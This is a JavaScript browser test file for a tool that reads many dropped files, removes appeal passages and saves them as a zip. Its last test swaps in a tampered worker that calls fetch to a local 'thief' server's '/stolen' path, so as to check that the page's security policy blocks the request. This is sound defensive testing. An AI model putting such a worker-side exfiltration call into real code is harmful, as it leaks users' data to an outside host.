// Many texts at once, as a reader meets them: dropped, read by workers, opened,
// decided about, saved as one file.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { unzipSync } from 'fflate';
import { example, expected, FIXTURES, inBrowser, onPage, openPage, Reader, words } from './browser.js';
import { fileOf, paragraphsOf } from './many-files.js';
import { serve } from './server.js';

const here = inBrowser();
const LINE = '.many .line';
let reader;

const open = onPage(here, (opened) => { reader = opened; });

const files = (n, from = 0) => Array.from({ length: n }, (_, i) => fileOf(from + i));
const row = (name) => `.many tr:has(button[aria-label="Take “${name}” off the list"])`;
const over = (n) => reader.says(LINE, new RegExp(`^All ${n} are done$`));
const zip = async () => {
  const { name, bytes } = await reader.saved(() => reader.press(words['many.zip']));
  assert.equal(name, 'articles.zip');
  await reader.says('#said', /^Saved as “articles\.zip”\.$/);
  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([one, content]) => [one, Buffer.from(content).toString()]));
};

const TROUBLED = [
  { name: 'picture.txt', content: [0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46] },
  { name: 'empty.md', content: ' \n' },
  { name: 'broken.eml', content: 'Subject: nothing\n\n' },
  { name: 'latin.txt', content: [...Buffer.from('A café by the sea, open all day and for everybody who comes along the quay.', 'latin1')] },
  { name: 'wide.txt', content: [0xff, 0xfe, ...Buffer.from('Für alle, die am Wasser wohnen, gibt es heute Abend eine Versammlung.', 'utf16le')] },
];

// Other work on the machine can stop a page for as long as this, too; but not each time.
async function quietly(run) {
  for (let left = 2; ; left--) {
    const long = await run();
    if (!long.length) return;
    if (!left) assert.fail(`tasks of ${long} ms on the main thread`);
  }
}

test('fifty-seven files of four kinds: a row each, one zip, byte for byte, and no task above 50 ms', { timeout: 180_000 }, async () => {
  const good = [...files(50), { ...fileOf(0) }, { ...fileOf(8), name: 'STORY-0.txt' }];
  await quietly(async () => {
    reader = await openPage(here.browser, here.site.origin);
    const { page } = reader;
    await page.waitForFunction(() => document.querySelector('#keys').textContent);
    await page.evaluate(() => new Promise((resolve) => { setTimeout(resolve, 500); })); // the page's own start is not what is measured
    await page.evaluate((list) => { window.given = list; }, [...good, ...TROUBLED]);
    await page.evaluate(() => {
      window.long = [];
      new PerformanceObserver((list) => window.long.push(...list.getEntries().map(({ duration }) => Math.round(duration)))).observe({ type: 'longtask' });
      const data = new DataTransfer();
      for (const { name, content } of window.given) data.items.add(new File([Array.isArray(content) ? Uint8Array.from(content) : content], name));
      // In a task of its own, as a reader's drop is.
      setTimeout(() => document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true })));
    });
    await reader.says(LINE, /^54 of 57 done · 3 could not be read$/);
    const long = await page.evaluate(() => window.long);

    assert.equal(await reader.seen('.many h1'), '57 articles');
    assert.equal((await page.$$('.many tbody tr')).length, 57);
    assert.match(await reader.seen(row('story-1.md')), /^story-1\.md\s+1 passage, \d+ words taken out/);
    assert.match(await reader.seen(row('story-7.eml')), /^story-7\.eml\s+Story 7 – by the sea · Quay Letter\s+Nothing to take out/);
    assert.match(await reader.seen(row('picture.txt')), /“picture\.txt” is not a text\./);
    assert.match(await reader.seen(row('empty.md')), /There is no text in “empty\.md”\./);
    assert.match(await reader.seen(row('broken.eml')), /There is no text in “broken\.eml”\./);
    assert.match(await reader.seen(row('latin.txt')), /Some characters of this file could not be read/);

    const got = await zip();
    const wanted = {};
    for (const [i, { name, kept }] of good.entries()) {
      const [stem, kind] = i < 50 ? name.split('.') : [`${name.split('.')[0]} (${i - 48})`, 'txt'];
      wanted[`${stem}.${kind === 'md' ? 'md' : 'txt'}`] = kept;
    }
    wanted['wide.txt'] = '\ufeffFür alle, die am Wasser wohnen, gibt es heute Abend eine Versammlung.';
    wanted['latin.txt'] = 'A caf� by the sea, open all day and for everybody who comes along the quay.';
    const written = Object.keys(got).filter((name) => name.endsWith('.html'));
    assert.deepEqual(written, good.filter(({ name }) => /html$|eml$/.test(name)).map(({ name }) => name.replace(/\w+$/, 'html')));
    for (const name of written) {
      assert.match(got[name], /^<!doctype html>\n<html><head><meta charset="utf-8"><title>/);
      assert.doesNotMatch(got[name], /<script|Dear readers/);
      const [first] = paragraphsOf(Number(name.match(/\d+/)[0]));
      assert.ok(got[name].includes(`<p>${first}</p>`), name);
      delete got[name];
    }
    assert.deepEqual(Object.keys(got).sort(), Object.keys(wanted).sort());
    for (const [name, text] of Object.entries(wanted)) assert.equal(got[name], text, name);
    assert.deepEqual(reader.errors, []);
    await reader.close();
    return long;
  });
});

open('cancelled in the middle, what is done stays; Go on reads the rest', async () => {
  await reader.give(files(50));
  await reader.says(LINE, /^\d+ of 50 done$/);
  await reader.press(words['many.cancel']);
  await reader.says(LINE, /^\d+ of 50 done · \d+ (was|were) not read$/);
  const done = Number((await reader.seen(LINE)).match(/^\d+/)[0]);
  assert.ok(done < 50, 'it was the middle');
  assert.equal((await reader.page.$$('.many tr[data-state="cancelled"]')).length, 50 - done);
  await reader.press(words['many.goOn']);
  await over(50);
  assert.equal(Object.keys(await zip()).filter((name) => /\.(txt|md)$/.test(name)).length, 50);
});

open('a row opens its article; what is decided there is in the zip; the list is one press away', async (page) => {
  await reader.paste(example);
  await reader.article();
  await reader.give(files(4));
  await over(4);
  assert.equal(await reader.seen('#article'), '', 'the list lies over the article');
  await reader.press('story-2.html');
  const seen = await reader.article();
  assert.ok(seen.includes(paragraphsOf(2)[8].slice(0, 60)) && !seen.includes('Dear readers'));
  assert.match(await reader.seen('#source'), /^From your list: story-2\.html\. Show the whole page$/);
  assert.equal(await reader.seen(LINE), '');
  await page.click('.folded .restore');
  await reader.says('#count', /^Nothing taken out\.$/);
  await reader.press(words['many.back']);
  await reader.says(row('story-2.html'), /Nothing to take out/);
  assert.equal(await reader.focused(), 'story-2.html', 'where one left it');
  const got = await zip();
  assert.ok(got['story-2.txt'].includes('Dear readers,') && got['story-2.html'].includes('Dear readers,'));
  assert.ok(!got['story-1.md'].includes('Dear readers,'));
  await reader.press(words['many.close']);
  await reader.article();
  await reader.key('z');
  await reader.says('#count', /^1 passage/);
  await reader.key('z');
  await reader.says('#article', /^Russia is moving/);
  assert.equal(await reader.copy(), expected, 'what was there before the list');
  await reader.press(words['many.back']);
  await reader.says(row('story-2.html'), /^story-2\.html\s+1 passage/);
});

open('rows are taken off, lists put away, and both come back', async (page) => {
  await reader.give(files(3));
  await over(3);
  await page.focus(`${row('story-1.md')} .off button`);
  await page.keyboard.press('Enter');
  await reader.says('.many .note', /^“story-1\.md” was taken off the list\./);
  await reader.says('.many h1', /^2 articles$/);
  assert.equal(await reader.focused(), 'Take “story-2.html” off the list', 'focus goes to the next');
  await reader.press(words['bar.undo'], '.many');
  await reader.says('.many h1', /^3 articles$/);
  assert.deepEqual(await page.$$eval('.many tbody th button', (buttons) => buttons.map(({ textContent }) => textContent)), ['story-0.txt', 'story-1.md', 'story-2.html']);
  await reader.press(words['many.close']);
  assert.equal(await page.evaluate(() => document.activeElement.id), 'text');
  await reader.press(words['many.putAway']);
  await reader.says('.many .note', /^The list was put away\./);
  assert.equal(await reader.focused(), words['bar.undo']);
  await page.keyboard.press('Enter');
  await over(3);
  assert.equal((await page.$$('.many tbody tr')).length, 3);
  await reader.give(files(2, 3));
  await over(5);
});

open('a text that holds several articles is one, until the reader wants them one by one', async (page) => {
  const text = `${paragraphsOf(1).join('\n')}\n\n---\n\n${example}\n\n* * *\n\n${paragraphsOf(2).join('\n')}`;
  await reader.paste(text);
  await reader.article();
  await reader.says('.many .offer', /^This looks like 3 articles\./);
  await reader.paste('Another text, and but one.');
  await reader.says('#article', /^Another/);
  assert.equal(await reader.seen('.many'), '');
  await reader.key('z');
  await reader.says('.many .offer', /^This looks like 3 articles\./);
  await reader.press(words['many.each']);
  await over(3);
  const names = await page.$$eval('.many tbody th button', (buttons) => buttons.map(({ textContent }) => textContent));
  assert.match(names[1], /^Russia-is-moving-.*\.txt$/);
  const got = await zip();
  assert.equal(got[names[1]], expected);
  assert.equal(got[names[0]], paragraphsOf(1).join('\n'));
  await reader.press(words['many.close']);
  await reader.says('#article', /^The harbour|^Nobody/);
});

open('several files on the clipboard are files, and one file is one article', async () => {
  await reader.give(files(2), 'paste');
  await over(2);
  await reader.press(words['many.close']);
  await reader.give([fileOf(3)]);
  await reader.says('#article', /^Story 3\n/);
  await reader.says('#count', /^1 passage/);
});

open('mails of other kinds: plain, in other letters, without a subject, as a page of its own', async () => {
  const long = 'The boats of the lower quay went out before dawn, and none of them was back when the fog came in over the harbour wall.';
  const mails = {
    'plain.eml': `From: =?koi8-r?B?8MHSz80=?= <a@quay.example>\r\nSubject: Boats\r\nContent-Type: text/plain; charset=koi8-r\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=F0=C1=D2=CF=CD=\r\n ${long}\r\n`,
    'bare.eml': `\r\n${long}\r\n`,
    'page.eml': `Subject: Fog\r\nContent-Type: text/html\r\n\r\n<html><body><div>Good morning.</div><p>${long}</p><p>${long}</p><p>${long}</p><script>x()</script></body></html>`,
  };
  await reader.give(Object.entries(mails).map(([name, content]) => ({ name, content })));
  await over(3);
  await reader.says(row('plain.eml'), /^plain\.eml\s+Boats · Паром\s/);
  await reader.says(row('page.eml'), /^page\.eml\s+Fog\s/);
  const got = await zip();
  assert.equal(got['plain.txt'].trim(), `Паром ${long}`);
  assert.equal(got['bare.txt'].trim(), long);
  assert.equal(got['page.txt'], `Good morning.\n\n${[long, long, long].join('\n\n')}`, 'a mail is all article');
  assert.match(got['page.html'], /<title>Fog<\/title>/);
  assert.deepEqual(Object.keys(got).sort(), ['bare.txt', 'page.html', 'page.txt', 'plain.txt']);
});

open('options that change are those of the whole list', async (page) => {
  const inside = 'The talks of this week have brought nothing new. Your support, no matter how small, makes a world of difference to all of us here. They go on, and nobody knows yet how long they will take.';
  await reader.give([{ name: 'a.txt', content: inside }, { name: 'b.txt', content: 'Nothing in here that anybody would want to take out of it.' }]);
  await over(2);
  await reader.says(row('a.txt'), /Nothing taken out · 1 to decide/);
  await page.click('#options summary');
  await page.click('#suggested');
  await reader.says(row('a.txt'), /1 passage, 16 words taken out/);
  await over(2);
  assert.ok(!(await zip())['a.txt'].includes('Your support'));
});

open('a page that is a file of the publisher gives the same on the list as alone', async () => {
  const html = await readFile(`${FIXTURES}/rich.html`, 'utf8');
  await reader.give([{ name: 'rich.html', content: html }, fileOf(0)]);
  await over(2);
  const got = await zip();
  await reader.press('rich.html');
  await reader.article();
  assert.equal(await reader.copy(), got['rich.txt']);
  assert.match(got['rich.html'], /<h2>What it costs<\/h2>[^]*<table><caption>/);
});

test('from right to left and at 320 px nothing is cut off', async () => {
  const ar = JSON.parse(await readFile(new URL('../i18n/ar.json', import.meta.url), 'utf8'));
  const context = await here.browser.createBrowserContext();
  const page = await context.newPage();
  await page.evaluateOnNewDocument(() => Object.defineProperty(navigator, 'languages', { get: () => ['ar'] }));
  reader = new Reader(page);
  await page.goto(`${here.site.origin}/`);
  await page.waitForFunction(() => document.querySelector('#keys').textContent);
  await reader.give([...files(4), TROUBLED[0], { name: `${'long'.repeat(40)}.txt`, content: 'x' }, { name: 'قصة.txt', content: example }]);
  await page.waitForFunction(() => document.querySelectorAll('.many tr[data-state="done"]').length === 6);
  const at = (selector) => page.$eval(selector, (element) => element.getBoundingClientRect().toJSON());
  await page.setViewport({ width: 1280, height: 800 });
  assert.ok((await at('.many tbody th')).right > (await at('.many tbody td')).right, 'the name is on the right');
  assert.ok((await at('.many tbody .off')).right < (await at('.many tbody td')).left + 1);
  const inner = await page.$eval('.many tr:nth-child(4) th', (cell) => [cell, ...cell.querySelectorAll('bdi')].map((one) => Math.round(one.getBoundingClientRect().right)));
  assert.deepEqual(inner, [inner[0], inner[0], inner[0]], 'English names begin on the right, too');
  for (const width of [320, 360, 640, 1280]) {
    await page.setViewport({ width, height: 740 });
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `at ${width} px`);
  }
  assert.equal(await page.$eval('.many table', (table) => table.getAttribute('aria-label')), ar['many.region']);
  assert.deepEqual(reader.errors, []);
  await context.close();
});

test('the workers are bound by the policy of the page', async () => {
  const thief = await serve(FIXTURES, { headers: () => ({ 'access-control-allow-origin': '*' }) });
  const tampered = `addEventListener('message', async () => {
    await fetch(${JSON.stringify(`${thief.origin}/stolen`)}, { mode: 'no-cors' }).catch(() => undefined);
    postMessage({ value: { outputs: [], trouble: 'trouble.file' } });
  });`;
  const html = await readFile(fileURLToPath(new URL('../../build/site/index.html', import.meta.url)), 'utf8');
  here.site.hold.set('/many/worker.js', { body: tampered });
  try {
    for (const [body, heard] of [[html, 0], [html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''), 1]]) {
      here.site.hold.set('/', { body });
      reader = await openPage(here.browser, here.site.origin);
      await reader.page.waitForFunction(() => document.querySelector('#keys').textContent);
      await reader.give([{ name: 'a.txt', content: 'a' }, { name: 'a.txt', content: 'a' }]);
      await reader.says(LINE, /^0 of 2 done · 2 could not be read$/);
      assert.equal(thief.seen.filter((line) => line.includes('stolen')).length > 0, heard > 0);
      await reader.close();
    }
  } finally {
    here.site.hold.clear();
    await thief.close();
  }
});
